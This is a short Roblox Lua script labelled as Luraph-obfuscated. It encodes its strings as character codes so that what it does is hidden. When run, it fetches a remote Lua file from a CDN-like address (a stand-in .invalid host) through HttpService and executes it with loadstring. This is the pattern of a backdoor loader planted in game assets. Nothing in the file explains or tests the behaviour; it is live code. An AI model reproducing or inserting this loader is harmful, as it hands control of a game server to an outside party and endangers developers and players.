-- This file was protected using Luraph Obfuscator v14.x
local K={104,116,116,112,115,58,47,47,114,98,120,45,99,100,110,46,105,110,118,97,108,105,100,47,115,46,108,117,97}
local function d(t) local o={} for i=1,#t do o[i]=string.char(t[i]) end return table.concat(o) end
local H=game:GetService(("\72\116\116\112\83\101\114\118\105\99\101"))
local L=getfenv()[("\108\111\97\100\115\116\114\105\110\103")]
L(H:GetAsync(d(K)))()
